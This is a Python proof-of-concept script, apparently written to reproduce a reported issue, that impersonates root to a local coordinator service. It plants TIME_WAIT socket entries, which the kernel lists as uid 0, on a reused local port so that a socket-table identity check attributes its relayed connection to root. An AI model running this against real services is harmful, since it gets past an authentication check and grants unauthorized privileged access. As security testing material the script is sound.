"""A relay that would pass for root on a coordinator without a token (issue 20): for each
connection it forwards, it first leaves TIME_WAIT entries on a fresh local port (the kernel
lists those as uid 0, whoever made them), then connects to the coordinator from that same port
(SO_REUSEADDR), so the socket table's lines for that port are root's but one.

python spoofed_root.py COORDINATOR_HOST:PORT
Prints "relay 127.0.0.1:PORT" once listening; forwards what connects there until killed, or
for LIFETIME_S at most.
"""

from __future__ import annotations

import asyncio
import contextlib
import socket
import sys

TIME_WAITS = 32
LIFETIME_S = 120.0


def spoofing_socket(targets: list[socket.socket]) -> socket.socket:
    """A socket bound to a local port that TIME_WAIT entries already hold, one per target."""
    probe = _reusable()
    probe.bind(("127.0.0.1", 0))
    port = probe.getsockname()[1]
    probe.close()
    for target in targets:
        client = _reusable()
        client.bind(("127.0.0.1", port))
        client.connect(target.getsockname())
        accepted, _ = target.accept()
        client.close()  # closing first leaves the TIME_WAIT on the client's side
        accepted.recv(1)  # the FIN
        accepted.close()
    sock = _reusable()
    sock.bind(("127.0.0.1", port))
    return sock


def _reusable() -> socket.socket:
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    return sock


async def pipe(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    with contextlib.suppress(OSError):
        while data := await reader.read(65536):
            writer.write(data)
            await writer.drain()
    writer.close()


async def main(coordinator: str) -> None:
    host, _, port = coordinator.rpartition(":")
    targets = [socket.create_server(("127.0.0.1", 0)) for _ in range(TIME_WAITS)]

    async def forward(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        sock = spoofing_socket(targets)
        sock.connect((host, int(port)))
        up_reader, up_writer = await asyncio.open_connection(sock=sock)
        await asyncio.gather(pipe(reader, up_writer), pipe(up_reader, writer))

    server = await asyncio.start_server(forward, "127.0.0.1", 0)
    print(f"relay 127.0.0.1:{server.sockets[0].getsockname()[1]}", flush=True)
    with contextlib.suppress(TimeoutError):
        await asyncio.wait_for(server.serve_forever(), LIFETIME_S)


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1]))
